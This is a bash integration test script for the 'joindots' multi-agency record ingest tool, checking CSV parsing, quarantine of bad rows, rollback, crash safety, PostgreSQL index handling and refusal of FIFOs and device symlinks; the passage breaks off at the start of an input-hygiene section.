#!/usr/bin/env bash
# Integration tests of `joindots ingest` and `joindots rejects` on the small
# hand-written bundle (tests/data/bundles/small) and generated bundles.
# Usage: test_ingest.sh JOINDOTS GEN_BUNDLE SOURCE_ROOT
JD=$1 GEN=$2 SRC=$3
. "$SRC/tests/integration/lib.sh"
scratch
SMALL="$SRC/tests/data/bundles/small"
DB=$(new_store a)
q() { db_query "$DB" "$1"; }

# --- command line conventions
"$JD" --help >/dev/null; is $? 0 "joindots --help exits 0"
"$JD" --version | grep -q '^joindots [0-9]'; is $? 0 "--version prints the version"
"$JD" ingest --help | grep -q 'usage: joindots ingest'; is $? 0 "ingest --help prints usage"
"$JD" ingest 2>/dev/null; is $? 2 "ingest without arguments is a usage error (2)"
"$JD" nosuchcommand 2>/dev/null; is $? 2 "unknown command exits 2"
"$JD" ingest --db "$DB" "$SCRATCH/nope" 2>/dev/null; is $? 4 "missing bundle exits 4"

# --- the small bundle: every rule of the contract
out=$("$JD" ingest --db "$DB" "$SMALL" 2>"$SCRATCH/err"); rc=$?
is $rc 0 "ingest of the small bundle succeeds"
echo "$out" | grep -q 'total: read 32, stored 26, updated 0, unchanged 0, rejected 6'
ok $? "summary counts rows read, stored and rejected ($out)"
is "$(q 'SELECT count(*) FROM event')" 11 "11 events stored (3 files, BOM, CRLF, any column order)"
is "$(q 'SELECT count(*) FROM person_mention')" 11 "11 person mentions stored"
is "$(q 'SELECT count(*) FROM object_mention')" 4 "4 objects stored"
is "$(q "SELECT narrative FROM event WHERE record_id='IR05-0002'")" 'Found by patrol. Intoxicated, says she was with "friends" at a flat.
Would not give names.' "quoted field with comma, doubled quotes and newline"
is "$(q "SELECT postcode FROM event WHERE record_id='IR05-0003'")" 'OX4 1AB' "postcode normalised"
is "$(q "SELECT event_type||'|'||event_type_raw FROM event WHERE record_id='IR05-0007'")" 'other|patrol_sighting' "unknown event type kept as other"
is "$(q "SELECT occurred_at FROM event WHERE record_id='IR05-0001'")" 1111875300 "UK local time in GMT (2005-03-26 22:15 = 22:15Z)"
is "$(q "SELECT occurred_at FROM event WHERE record_id='IR05-0004'")" 1116110400 "explicit +01:00 offset honoured"
is "$(q "SELECT reported_at FROM event WHERE record_id='IR05-0002'")" "$(q "SELECT occurred_at FROM event WHERE record_id='IR05-0002'")" "reported_at defaults to occurred_at"
is "$(q "SELECT phone FROM person_mention WHERE person_ref='N2001' AND record_id='IR05-0004'")" '+447700900123' "phone normalised to E.164"
is "$(q "SELECT dob FROM person_mention WHERE person_ref='N1001' AND record_id='IR05-0002'")" '1991-02-14' "DD/MM/YYYY date of birth"
is "$(q "SELECT nhs_number FROM person_mention WHERE person_ref='H555'")" '9434765919' "NHS number with spaces normalised"
is "$(q "SELECT value_norm FROM object_mention WHERE record_id='IR05-0005' AND value_valid=1")" 'LX51OTJ' "registration mark normalised"
is "$(q "SELECT count(*) FROM object_mention WHERE value_valid=0")" 1 "partial plate kept, marked invalid"
is "$(q "SELECT count(*) FROM event e JOIN source_file f ON f.id=e.file_id WHERE f.name='events_police.csv' AND e.record_id='IR05-0003' AND e.line=5")" 1 "provenance: file and line stored (multi-line record before it)"
is "$(q "SELECT ethnicity FROM person_mention WHERE person_ref='N1001' AND record_id='IR05-0001'")" 'White British' "ethnicity kept for equality monitoring"

# --- quarantine
rej=$("$JD" rejects --db "$DB" 2>/dev/null)
is "$(echo "$rej" | grep -c ': reject: ')" 6 "rejects lists 6 quarantined rows"
echo "$rej" | grep -q '^events_health.csv:3:3: reject: occurred_at: '; ok $? "impossible date names file, line, column and field"
echo "$rej" | grep -q '^events_health.csv:4:1: reject: record_id: required value'; ok $? "missing required value"
echo "$rej" | grep -q '^persons_police.csv:9:2: reject: record_id: no event'; ok $? "orphan person row"
echo "$rej" | grep -q '^persons_police.csv:10:8: reject: dob: '; ok $? "impossible date of birth"
echo "$rej" | grep -q '^persons_other.csv:6:9: reject: nhs_number: '; ok $? "invalid NHS number"
echo "$rej" | grep -q '^objects_police.csv:6:2: reject: record_id: no event'; ok $? "orphan object row"
"$JD" rejects --db "$DB" --warnings 2>/dev/null | grep -q "warning: event_type: unknown event type"; ok $? "warnings listed with --warnings"
"$JD" rejects --db "$DB" --format json 2>/dev/null | head -1 | grep -q '"severity":"reject"'; ok $? "rejects as JSON lines"
"$JD" rejects --db "$DB" --format csv 2>/dev/null | head -1 | grep -q '^id,run,severity,file,line'; ok $? "rejects as CSV"

# --- idempotence
out=$("$JD" ingest --db "$DB" "$SMALL" 2>/dev/null)
echo "$out" | grep -q 'total: read 0, stored 0'; ok $? "same bundle again: identical files skipped"
out=$("$JD" ingest --db "$DB" --reread "$SMALL" 2>/dev/null)
echo "$out" | grep -q 'total: read 32, stored 0, updated 0, unchanged 26, rejected 6'; ok $? "re-read: nothing new ($out)"
is "$(q 'SELECT count(*) FROM event')" 11 "no duplicate events"
is "$(q "SELECT count(*) FROM problem WHERE severity='reject'")" 6 "no duplicate quarantine rows"

# --- the same bytes twice in one call: the second file is skipped
mkdir -p "$SCRATCH/twice"
cp "$SMALL/events_police.csv" "$SCRATCH/twice/events_a.csv"
cp "$SMALL/events_police.csv" "$SCRATCH/twice/events_b.csv"
out=$("$JD" ingest --db "$(store_at "$SCRATCH/twice.db")" "$SCRATCH/twice" 2>/dev/null)
echo "$out" | grep -q '^events_b.csv .*skipped: identical'; ok $? "a file identical to an earlier one of the same call is skipped ($out)"
is "$(db_query "$(store_at "$SCRATCH/twice.db")" "SELECT count(*) FROM source_file")" 1 "and recorded once"

# --- a corrected row becomes a new version; the old one is kept
mkdir -p "$SCRATCH/fix"
sed 's/Theft of bicycle from garden shed./Theft of two bicycles from garden shed./' "$SMALL/events_police.csv" > "$SCRATCH/fix/events_police.csv"
out=$("$JD" ingest --db "$DB" "$SCRATCH/fix" 2>/dev/null)
echo "$out" | grep -q 'updated 1, unchanged 6'; ok $? "corrected row counted as updated ($out)"
is "$(q "SELECT version FROM event WHERE record_id='IR05-0006'")" 2 "event now at version 2"
is "$(q "SELECT narrative FROM event_history WHERE record_id='IR05-0006'")" 'Theft of bicycle from garden shed.' "old version kept in history"

# --- fatal problems leave the store exactly as it was
snap() { db_query "$DB" "SELECT (SELECT count(*) FROM event),(SELECT count(*) FROM person_mention),(SELECT count(*) FROM problem),(SELECT count(*) FROM ingest_run),(SELECT count(*) FROM source_file)"; }
before=$(snap)
mkdir -p "$SCRATCH/nocol"
cp "$SMALL/events_csc.csv" "$SCRATCH/nocol/events_a.csv"
printf 'agency,record_id,occurred_at\npolice,X1,2005-01-01\n' > "$SCRATCH/nocol/events_b.csv"
"$JD" ingest --db "$DB" --reread "$SCRATCH/nocol" 2>"$SCRATCH/err"; rc=$?
is $rc 3 "missing required column exits 3"
grep -q "events_b.csv:1: required column 'event_type' is missing" "$SCRATCH/err"; ok $? "names the file and the missing column"
is "$(snap)" "$before" "store unchanged after missing column"
mkdir -p "$SCRATCH/notcsv"
printf 'agency,record_id,event_type,occurred_at\npolice,X2,other,2005-01-01\n' > "$SCRATCH/notcsv/events_a.csv"
printf 'agency,record_id,event_type,occurred_at\npolice,X3,other,"2005-01-01\n' > "$SCRATCH/notcsv/events_b.csv"
"$JD" ingest --db "$DB" "$SCRATCH/notcsv" 2>"$SCRATCH/err"; rc=$?
is $rc 3 "unterminated quote (not CSV) exits 3"
is "$(snap)" "$before" "store unchanged: the valid file before it was rolled back too"
mkdir -p "$SCRATCH/nul"
printf 'agency,record_id,event_type,occurred_at\npolice,X4,other,2005\0-01-01\n' > "$SCRATCH/nul/events.csv"
"$JD" ingest --db "$DB" "$SCRATCH/nul" 2>/dev/null; is $? 3 "binary (NUL) input exits 3"
mkdir -p "$SCRATCH/dir/events_x.csv"
"$JD" ingest --db "$DB" "$SCRATCH/dir" 2>/dev/null; rc=$?
ok $([ $rc -ne 0 ] && echo 0 || echo 1) "unreadable file fails (exit $rc)"
is "$(snap)" "$before" "store unchanged after unreadable file"
printf 'not a database at all, just text\n' > "$SCRATCH/bad.db"
if on_pg; then skip "a file that is not a database is refused" "SQLite-only: a PostgreSQL location is not a file"; else
"$JD" ingest --db "$SCRATCH/bad.db" "$SMALL" 2>/dev/null; is $? 1 "a file that is not a database is refused"; fi

# --- strict mode
"$JD" ingest --db "$(store_at "$SCRATCH/s.db")" --strict --quiet "$SMALL" >/dev/null 2>&1; is $? 6 "--strict exits 6 when rows were quarantined"

# --- SIGKILL in the middle loses nothing committed and leaves no half file
"$GEN" "$SCRATCH/big" 200000 3 7
K=$(store_at "$SCRATCH/k.db")
"$JD" ingest --db "$K" "$SMALL" >/dev/null 2>&1
kb=$(db_query "$K" "SELECT count(*) FROM event; SELECT count(*) FROM person_mention;")
# PostgreSQL: the key indexes of the tables COPY fills, as defined, and their oids
KEYS_OF="SELECT string_agg(indexrelid::regclass || ' ' || indisunique, ',' ORDER BY indexrelid::regclass::text)
  FROM pg_index WHERE indrelid IN ('event'::regclass, 'person_mention'::regclass, 'object_mention'::regclass)
  AND NOT indisprimary AND indexrelid::regclass::text <> 'person_mention_ref'"
# name=oid of each index of the tables COPY fills (primary keys too) and of
# each foreign key of the history tables: one a line, by name
key_oids() { db_query "$1" "SELECT indexrelid::regclass || '=' || indexrelid FROM pg_index
  WHERE indrelid IN ('event'::regclass, 'object_mention'::regclass, 'person_mention'::regclass)
  UNION ALL SELECT conname || '=' || oid FROM pg_constraint WHERE contype = 'f' AND conrelid IN
  ('event_history'::regclass, 'object_mention_history'::regclass, 'person_mention_history'::regclass)
  ORDER BY 1"; }
# the names key_oids gives another oid in $2 than in $1 (or not at all)
moved_keys() { join -t= -a1 -e none -o 0,1.2,2.2 <(sort -t= -k1,1 <<<"$1") <(sort -t= -k1,1 <<<"$2") |
  awk -F= '$2 != $3 { print $1 }' | paste -sd' '; }
on_pg && k_oids=$(key_oids "$K")
# a foreign key on event's unique key (none in the schema today): keys_defer
# must leave that key alone, not fail the load on it nor drop the foreign key
on_pg && db_query "$K" "CREATE TABLE fk_probe AS SELECT agency, record_id FROM event LIMIT 1;
  ALTER TABLE fk_probe ADD FOREIGN KEY (agency, record_id) REFERENCES event(agency, record_id)"
on_pg && k_event=$(db_query "$K" "SELECT conindid FROM pg_constraint WHERE contype = 'u' AND conrelid = 'event'::regclass")
"$JD" ingest --db "$K" "$SCRATCH/big" >/dev/null 2>&1 &
pid=$!
for i in $(seq 1 100); do
  # wait until the transaction has written pages to the WAL
  s=$(stat -c %s "$K-wal" 2>/dev/null || echo 0)
  [ "$s" -gt 4000000 ] && break
  # on PostgreSQL: until the ingest's open transaction has written rows
  on_pg && [ "$(db_query "$K" "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND backend_xid IS NOT NULL AND pid <> pg_backend_pid()")" -gt 0 ] && sleep 0.5 && break
  sleep 0.05
done
kill -9 $pid 2>/dev/null; wait $pid 2>/dev/null
ka=$(db_query "$K" "SELECT count(*) FROM event; SELECT count(*) FROM person_mention;")
is "$ka" "$kb" "after SIGKILL the store holds exactly what was committed before"
if on_pg; then skip "integrity check passes after SIGKILL" "SQLite-only: PRAGMA integrity_check checks the file; PostgreSQL rolls the killed client's transaction back"; else
is "$(db_query "$K" 'PRAGMA integrity_check')" ok "integrity check passes after SIGKILL"; fi
is "$(db_query "$K" "SELECT count(*) FROM source_file WHERE name='events.csv'")" 0 "no trace of the half-ingested file"
"$JD" ingest --db "$K" --quiet "$SCRATCH/big" >/dev/null 2>&1; is $? 0 "the same ingest runs to completion afterwards"
is "$(db_query "$K" "SELECT count(*) FROM event")" 200011 "all rows present after the re-run"
# a load this large drops person_mention_ref and builds it once at the end
ref_index() { if on_pg; then db_query "$1" "SELECT indexdef FROM pg_indexes WHERE indexname = 'person_mention_ref'" | sed 's/ ON [a-z_]*\./ ON /'
  else db_query "$1" "SELECT sql FROM sqlite_master WHERE name='person_mention_ref'"; fi; }
is "$(ref_index "$K")" "$(ref_index "$DB")" "person_mention_ref rebuilt, as the schema defines it"
# PostgreSQL: a first large load also drops the unique keys and
# object_mention_value, and builds them once at commit (store/pg.c keys_defer)
if on_pg; then
  # every one of them but event's unique key (fk_probe needs it)
  is "$(moved_keys "$k_oids" "$(key_oids "$K")")" "event_history_event_id_fkey event_pkey \
object_mention_agency_record_id_object_type_value_norm_pers_key object_mention_history_mention_id_fkey \
object_mention_pkey object_mention_value person_mention_agency_record_id_person_ref_role_key \
person_mention_history_mention_id_fkey person_mention_pkey person_mention_ref" \
    "the key indexes and the history foreign keys were built anew by the large load"
  is "$(db_query "$K" "SELECT conindid FROM pg_constraint WHERE contype = 'u' AND conrelid = 'event'::regclass")
$(db_query "$K" "SELECT count(*) FROM pg_constraint WHERE contype = 'f' AND conrelid = 'fk_probe'::regclass")" \
    "$k_event
1" "but not event's, which a foreign key needs: it and the foreign key stay"
  is "$(db_query "$K" "$KEYS_OF")" "$(db_query "$DB" "$KEYS_OF")" "and they are the schema's, unique where it says so"
  is "$(db_query "$K" "SELECT count(*) FROM pg_constraint WHERE contype = 'u' AND conrelid IN
      ('event'::regclass, 'person_mention'::regclass, 'object_mention'::regclass)")" 3 "the three unique constraints are back"
  dup_event() { echo "BEGIN; INSERT INTO event(agency, record_id, hash, event_type, occurred_at,
      occurred_prec, reported_at, reported_prec, known_at, file_id, line)
      SELECT agency, record_id || '$1', hash, event_type, occurred_at, occurred_prec,
      reported_at, reported_prec, known_at, file_id, line FROM event LIMIT 1; ROLLBACK;"; }
  db_query "$K" "$(dup_event x)" >/dev/null 2>&1; ok $? "a row with a new key goes in (and is rolled back)"
  db_query "$K" "$(dup_event '')" >/dev/null 2>&1; [ $? -ne 0 ]; ok $? "and they refuse a second row with a stored key"
else
  skip "the key indexes and the history foreign keys were built anew by the large load" "PostgreSQL-only: SQLite's INSERT .. ON CONFLICT needs its unique keys during the load"
  skip "but not event's, which a foreign key needs: it and the foreign key stay" "PostgreSQL-only (above)"
  skip "and they are the schema's, unique where it says so" "PostgreSQL-only (above)"
  skip "the three unique constraints are back" "PostgreSQL-only (above)"
  skip "a row with a new key goes in (and is rolled back)" "PostgreSQL-only (above)"
  skip "and they refuse a second row with a stored key" "PostgreSQL-only (above)"
fi
if on_pg; then
  skip "and it finds what a table scan finds" "SQLite-only: INDEXED BY is SQLite syntax"
  skip "integrity check passes after the rebuild" "SQLite-only: PRAGMA integrity_check"
else
is "$(db_query "$K" "SELECT count(*) FROM person_mention INDEXED BY person_mention_ref WHERE agency='police' AND person_ref='N1001'")" \
   "$(db_query "$K" "SELECT count(*) FROM person_mention NOT INDEXED WHERE agency='police' AND person_ref='N1001'")" "and it finds what a table scan finds"
is "$(db_query "$K" 'PRAGMA integrity_check')" ok "integrity check passes after the rebuild"
fi
# a fatal problem after the person files (a NUL in objects.csv): all rolled back, index too
mkdir -p "$SCRATCH/late"
cp "$SCRATCH/big/events.csv" "$SCRATCH/big/persons.csv" "$SCRATCH/late/"
{ head -1000 "$SCRATCH/big/objects.csv"; printf 'police,R1,phone,\0\n'; } > "$SCRATCH/late/objects.csv"
N=$(store_at "$SCRATCH/n.db")
"$JD" ingest --db "$N" --quiet "$SMALL" >/dev/null 2>&1
nb=$(db_query "$N" "SELECT count(*) FROM event; SELECT count(*) FROM person_mention;")
on_pg && n_oids=$(key_oids "$N")
"$JD" ingest --db "$N" --quiet "$SCRATCH/late" >/dev/null 2>"$SCRATCH/err"; rc=$?
[ "$rc" -ne 0 ]; ok $? "a NUL byte late in the run is fatal (exit $rc)"
is "$(db_query "$N" "SELECT count(*) FROM event; SELECT count(*) FROM person_mention;")" "$nb" "nothing of it is stored"
is "$(ref_index "$N")" "$(ref_index "$DB")" "the dropped index is back after the rollback"
if on_pg; then is "$(key_oids "$N")" "$n_oids" "the dropped key indexes too, the very same ones"
else skip "the dropped key indexes too, the very same ones" "PostgreSQL-only (above)"; fi
# PostgreSQL: a first large load while a REPEATABLE READ reader holds event
# and then reads person_mention. The load must not wait for the reader while
# it holds person_mention (a deadlock the server settled by killing the
# load): it takes its three tables with NOWAIT or keeps their indexes.
if on_pg; then
  R=$(store_at "$SCRATCH/r.db")
  "$JD" ingest --db "$R" --quiet "$SMALL" >/dev/null 2>&1
  r_oids=$(key_oids "$R"); r_ref=$(db_query "$R" "SELECT 'person_mention_ref'::regclass::oid")
  mkfifo "$SCRATCH/rd"
  psql -X -qAt -v ON_ERROR_STOP=1 -d "$R" <"$SCRATCH/rd" >"$SCRATCH/rd.out" 2>&1 &
  rp=$!
  exec 7>"$SCRATCH/rd"
  echo "BEGIN ISOLATION LEVEL REPEATABLE READ; SELECT count(*) FROM event;" >&7
  for i in $(seq 1 100); do [ -s "$SCRATCH/rd.out" ] && break; sleep 0.1; done
  "$JD" ingest --db "$R" --quiet "$SCRATCH/big" >/dev/null 2>"$SCRATCH/rerr" &
  ip=$!
  # until the load waits for a lock on event (before the mend), or is done
  while kill -0 $ip 2>/dev/null && [ "$(db_query "$R" "SELECT count(*) FROM pg_locks
      WHERE relation = 'event'::regclass AND NOT granted")" = 0 ]; do sleep 0.2; done
  echo "SELECT count(*) FROM person_mention; COMMIT;" >&7
  exec 7>&-
  wait $ip; rc=$?
  wait $rp; rrc=$?
  is "$rc" 0 "a first large load beside a reader of event succeeds ($(head -c 200 "$SCRATCH/rerr"))"
  is "$rrc $(tr '\n' ' ' <"$SCRATCH/rd.out")" "0 11 11 " "and the reader reads its snapshot to the end"
  is "$(db_query "$R" "SELECT count(*) FROM event")" 200011 "every row of the load is stored"
  is "$(key_oids "$R") $(db_query "$R" "SELECT 'person_mention_ref'::regclass::oid")" "$r_oids $r_ref" \
    "the load kept the indexes the reader's lock stood in the way of"
else
  for t in "a first large load beside a reader of event succeeds" "and the reader reads its snapshot to the end" \
    "every row of the load is stored" "the load kept the indexes the reader's lock stood in the way of"; do
    skip "$t" "PostgreSQL-only: SQLite's reader does not block the writer (WAL)"; done
fi

# --- the demo runs end to end from the bundle compiled into the program
out=$("$JD" demo --small --dir "$SCRATCH/demo" 2>&1); rc=$?
is $rc 0 "joindots demo --small exits 0"
echo "$out" | grep -q '6 rows were quarantined'; ok $? "demo reports the quarantine"
echo "$out" | grep -q 'Found in a car with a 27 year old male'; ok $? "demo prints a joined chronology"
is "$(echo "$out" | grep -c '"person_id"')" 5 "demo exports one identity line per person_ref"

out=$("$JD" demo --dir "$SCRATCH/oxford" 2>&1); rc=$?
is $rc 0 "joindots demo (oxford scenario) exits 0"
echo "$out" | grep -q '0 quarantined'; ok $? "the synthetic county ingests with nothing quarantined"
echo "$out" | grep -q 'discloses rape; no crime recorded   health_ae H'; ok $? "demo names the A&E disclosure landmark"
echo "$out" | grep -q 'identity resolution, all persons'; ok $? "demo prints the scores"
echo "$out" | grep -q '^4. Identity resolution joined'; ok $? "demo resolves identities across agencies"
echo "$out" | grep -E "the A&E disclosure at 14 +.*unrecorded_crime" >/dev/null; ok $? "demo shows the unrecorded_crime alert on the A&E disclosure"
echo "$out" | grep -E "'held against her will' +.*critical" >/dev/null; ok $? "demo shows a critical alert on the 'held against her will' call"
echo "$out" | grep -q "safeguarding board's agenda had its first item"; ok $? "demo says when the board would have known"
test -s "$SCRATCH/oxford/alerts.jsonl" && test -s "$SCRATCH/oxford/identities.jsonl"; ok $? "demo leaves its identities and alerts beside the store"
"$JD" synth --out "$SCRATCH/s1" --seed 5 --children 100 --years 2 2>/dev/null; is $? 0 "synth exits 0"
"$JD" synth --out "$SCRATCH/s2" --seed 5 --children 100 --years 2 2>/dev/null
diff -r -q "$SCRATCH/s1" "$SCRATCH/s2" >/dev/null; ok $? "synth: same seed, same bytes"
"$JD" synth --out "$SCRATCH/s3" --scenario nowhere 2>/dev/null; is $? 3 "synth: unknown scenario refused"
"$JD" synth --out "$SCRATCH/s3" --children 10 2>/dev/null; is $? 2 "synth: too few children is a usage error"
"$JD" score --truth "$SCRATCH/s1/truth.json" --baseline singletons --json | grep -q '"exploited":'; ok $? "score --json before any analysis"
"$JD" score --truth "$SCRATCH/nothing.json" 2>/dev/null; is $? 3 "score: missing truth refused"

# --- export identities: every person_ref in exactly one line
"$JD" export identities --db "$DB" > "$SCRATCH/ids.jsonl" 2>/dev/null; is $? 0 "export identities exits 0"
is "$(grep -o '"person_ref":"[^"]*"' "$SCRATCH/ids.jsonl" | sort | uniq -d | wc -l)" 0 "no person_ref twice"
is "$(wc -l < "$SCRATCH/ids.jsonl")" "$(q 'SELECT count(*) FROM (SELECT DISTINCT agency, person_ref FROM person_mention) AS t')" "one line per person_ref before resolution"
grep -q '"person_ref":"N1001"' "$SCRATCH/ids.jsonl"; ok $? "identity lines name their refs"

# --- link decisions and chronology
"$JD" link confirm --db "$DB" --reason "same dob and school" --user tester police:N1001 csc:C-4471 >/dev/null; is $? 0 "link confirm recorded"
"$JD" link reject --db "$DB" --user tester police:N1001 csc:C-4471 2>/dev/null; is $? 3 "a decision without a reason is refused"
"$JD" link reject --db "$DB" --reason x --user tester police:N1001 police:NOPE 2>/dev/null; is $? 4 "an unknown ref is refused"
is "$(q "SELECT decision||':'||decided_by FROM link_decision")" 'same:tester' "decision kept with who decided"
is "$("$JD" chronology --db "$DB" police:N1001 --format json 2>/dev/null | wc -l)" 4 "chronology lists the 4 events of police:N1001"
"$JD" chronology --db "$DB" police:N1001 --format csv 2>/dev/null | head -1 | grep -q '^occurred_at,agency,record_id'; ok $? "chronology as CSV"
is "$("$JD" chronology --db "$DB" police:N1001 --format json --as-of 2005-04-01 2>/dev/null | wc -l)" 2 "as of 2005-04-01 only 2 events were known"
"$JD" chronology --db "$DB" police:NOBODY 2>/dev/null; is $? 4 "unknown person exits 4"

# --- row hashes: a new store uses the fast hash; a store that held rows before
# migration 7 keeps FNV-1a, so its stored hashes still match a re-read
is "$(q "SELECT value FROM meta WHERE key='row_hash'")" wyhash64 "a new store hashes rows with wyhash64"
if on_pg; then # the ingest tables declare no foreign keys on PostgreSQL (docs/postgres.md): ask
  is "$(q 'SELECT (SELECT count(*) FROM person_mention m WHERE NOT EXISTS (SELECT 1 FROM event e WHERE e.id = m.event_id)) + (SELECT count(*) FROM object_mention o WHERE NOT EXISTS (SELECT 1 FROM event e WHERE e.id = o.event_id))')" 0 "ingest left no dangling reference (foreign keys not checked per row)"
else
is "$(q 'PRAGMA foreign_key_check' | wc -l)" 0 "ingest left no dangling reference (foreign keys not checked per row)"; fi
fnv_check() { # DB -> number of events whose stored hash is the FNV-1a of their fields
  python3 - "$1" <<'PY'
import jdq, sys
db = jdq.connect(sys.argv[1])
cols = ("agency, record_id, event_type, event_type_raw, occurred_at, occurred_prec, reported_at,"
        " reported_prec, location, postcode, postcode_raw, narrative, crime_recorded, crime_ref,"
        " outcome, author_role, risk_grade, hash")
def fnv(data, h):
    h ^= 1469598103934665603
    for b in data:
        h = ((h ^ b) * 1099511628211) & (2**64 - 1)
    return h
n = 0
for row in db.execute("SELECT " + cols + " FROM event"):
    v = [None if x is None else str(x) for x in row[:17]]
    v[12] = None if row[12] is None else ("Y" if row[12] else "N")
    h = 0x6a6f696e646f7473
    for x in v:
        h = fnv(b"\x1e" if x is None else x.encode(), h)
        h = fnv(b"\x1f", h)
    n += (h - 2**64 if h >= 2**63 else h) == row[17]
print(n)
PY
}
is "$(fnv_check "$DB")" 0 "wyhash64 store: no FNV-1a hashes"
L=$(store_at "$SCRATCH/legacy.db")
"$JD" ingest --db "$L" "$SCRATCH/nocol" 2>/dev/null # fatal: leaves an empty store
db_query "$L" "UPDATE meta SET value='fnv1a64' WHERE key='row_hash'"
"$JD" ingest --db "$L" "$SMALL" >/dev/null 2>&1
is "$(fnv_check "$L")" "$(db_query "$L" 'SELECT count(*) FROM event')" "fnv1a64 store: every event hash is FNV-1a of its fields"
out=$("$JD" ingest --db "$L" --reread "$SMALL" 2>/dev/null)
echo "$out" | grep -q 'updated 0, unchanged 26'; ok $? "fnv1a64 store: re-read finds everything unchanged ($out)"
out=$("$JD" ingest --db "$L" "$SCRATCH/fix" 2>/dev/null)
echo "$out" | grep -q 'updated 1, unchanged 6'; ok $? "fnv1a64 store: corrected row updated ($out)"
db_query "$L" "UPDATE meta SET value='md5' WHERE key='row_hash'"
lbefore=$(db_query "$L" 'SELECT count(*) FROM ingest_run')
"$JD" ingest --db "$L" --reread "$SMALL" 2>"$SCRATCH/err"; is $? 1 "an unknown row hash is refused"
grep -q "row hash 'md5' is unknown" "$SCRATCH/err"; ok $? "and named"
is "$(db_query "$L" 'SELECT count(*) FROM ingest_run')" "$lbefore" "nothing written"

# --- issue 19: hand-made bad bundles (input hygiene at ingest)
H="$SCRATCH/h19"; mkdir -p "$H"
hq() { db_query "$(store_at "$H/$1.db")" "$2"; }
hrej() { "$JD" rejects --db "$(store_at "$H/$1.db")" --warnings 2>/dev/null; }

# item 10: a row's agency is tied to a file whose name gives one
mkdir -p "$H/gp1" "$H/pol1" "$H/mixed1"
printf 'agency,record_id,event_type,occurred_at,narrative\ngp,GP0000001,gp_note,2005-06-01,Seen for a cough.\n' > "$H/gp1/events_gp.csv"
printf 'agency,record_id,person_ref,role,surname\ngp,GP0000001,G1,subject,Smith\n' > "$H/gp1/persons_gp.csv"
printf 'agency,record_id,event_type,occurred_at,narrative\npolice,IR1,missing_report,2005-06-02,Missing.\ngp,GP0000001,gp_note,2005-06-01,Rewritten by the police file.\nPOLICE,IR2,stop_check,2005-06-03,Upper case agency is the same agency.\n' > "$H/pol1/events_police.csv"
printf 'agency,record_id,person_ref,role,surname\npolice,IR1,N1,subject,Jones\ngp,GP0000001,G1,subject,Rewritten\n' > "$H/pol1/persons_police.csv"
"$JD" ingest --db "$(store_at "$H/a10.db")" "$H/gp1" >/dev/null 2>&1
"$JD" ingest --db "$(store_at "$H/a10.db")" "$H/pol1" >/dev/null 2>&1; is $? 0 "item 10: a bundle with a gp row in events_police.csv still ingests"
is "$(hq a10 "SELECT narrative||'|'||version FROM event WHERE agency='gp' AND record_id='GP0000001'")" 'Seen for a cough.|1' "item 10: the gp row in events_police.csv did not rewrite GP0000001"
is "$(hq a10 "SELECT surname FROM person_mention WHERE agency='gp' AND person_ref='G1'")" Smith "item 10: nor did the gp row in persons_police.csv"
is "$(hq a10 "SELECT count(*) FROM event WHERE agency='police'")" 2 "item 10: the file's own rows are stored (agency compared case-insensitively)"
hrej a10 | grep -q "^events_police.csv:3:1: reject: agency: agency is not 'police', the agency the file name gives to every row of events_police.csv"; ok $? "item 10: the reject names file, line, column and field"
hrej a10 | grep -q "^persons_police.csv:3:1: reject: agency: agency is not 'police'"; ok $? "item 10: persons files too"
printf 'agency,record_id,event_type,occurred_at\npolice,IR7,missing_report,2005-06-02\ncsc,CS7,referral,2005-06-02\n' > "$H/mixed1/events_police_csc.csv"
printf 'agency,record_id,event_type,occurred_at\nhousing,HO7,other,2005-06-02\ngp,GP7,gp_note,2005-06-02\n' > "$H/mixed1/events_other.csv"
"$JD" ingest --db "$(store_at "$H/m10.db")" "$H/mixed1" >/dev/null 2>&1
is "$(hq m10 "SELECT count(*) FROM event")" 4 "item 10: a name giving two agencies, or 'other', ties no agency"
hrej m10 | grep -q "^events_police_csc.csv:1: warning: the file name gives several agencies"; ok $? "item 10: and a name giving two agencies says so"

# item 11: only regular files are read; never a hang (timeout: a regression fails, it does not hang)
snap11() { db_query "$(store_at "$H/a11.db")" "SELECT (SELECT count(*) FROM event),(SELECT count(*) FROM ingest_run),(SELECT count(*) FROM source_file)"; }
"$JD" ingest --db "$(store_at "$H/a11.db")" "$SMALL" >/dev/null 2>&1
b11=$(snap11)
mkdir -p "$H/fifo" "$H/zero" "$H/dirs/events_x.csv" "$H/link"
cp "$SMALL/events_police.csv" "$H/fifo/events_a.csv"
mkfifo "$H/fifo/events_b.csv"
ln -s /dev/zero "$H/zero/events.csv"
cp "$SMALL/events_police.csv" "$H/link/real.txt"; ln -s real.txt "$H/link/events.csv"
timeout 20 "$JD" ingest --db "$(store_at "$H/a11.db")" "$H/fifo" >/dev/null 2>"$H/err"; rc=$?
is $rc 3 "item 11: a FIFO named events_b.csv in a bundle: fatal (3), no hang"
grep -q "events_b.csv: not a regular file (a FIFO): refused before reading" "$H/err"; ok $? "item 11: the error names the file and says FIFO ($(head -c 200 "$H/err"))"
timeout 20 "$JD" ingest --db "$(store_at "$H/a11.db")" "$H/zero" >/dev/null 2>"$H/err"; rc=$?
is $rc 3 "item 11: a symlink to /dev/zero in a bundle: fatal (3), no hang"
grep -q "events.csv: not a regular file (a symbolic link)" "$H/err"; ok $? "item 11: links inside a bundle folder are refused"
timeout 20 "$JD" ingest --db "$(store_at "$H/a11.db")" "$H/link" >/dev/null 2>"$H/err"; is $? 3 "item 11: even a link to a regular file inside a bundle folder"
timeout 20 "$JD" ingest --db "$(store_at "$H/a11.db")" "$H/zero/events.csv" >/dev/null 2>"$H/err"; rc=$?
is $rc 3 "item 11: /dev/zero through a link given as the bundle: fatal (3), no hang"
grep -q "this is neither" "$H/err"; ok $? "item 11: and says it is not a regular file"
timeout 20 "$JD" ingest --db "$(store_at "$H/a11.db")" "$H/fifo/events_b.csv" >/dev/null 2>&1; is $? 3 "item 11: a FIFO given as the bundle: fatal (3)"
timeout 20 "$JD" ingest --db "$(store_at "$H/a11.db")" "$H/dirs" >/dev/null 2>"$H/err"; is $? 3 "item 11: a directory named events_x.csv: fatal (3)"
grep -q "events_x.csv: not a regular file (a directory)" "$H/err"; ok $? "item 11: the directory is named"
timeout 20 "$JD" ingest --db "$(store_at "$H/a11.db")" --mapping "$H/fifo/events_b.csv" "$SMALL/events_police.csv" >/dev/null 2>&1; is $? 3 "item 11: a FIFO as the mapping file: fatal (3)"
is "$(snap11)" "$b11" "item 11: the store is unchanged by every refused run"

# input hygiene: control, bidi and zero-width characters removed, kept in the raw row, reported
mkdir -p "$H/hyg"
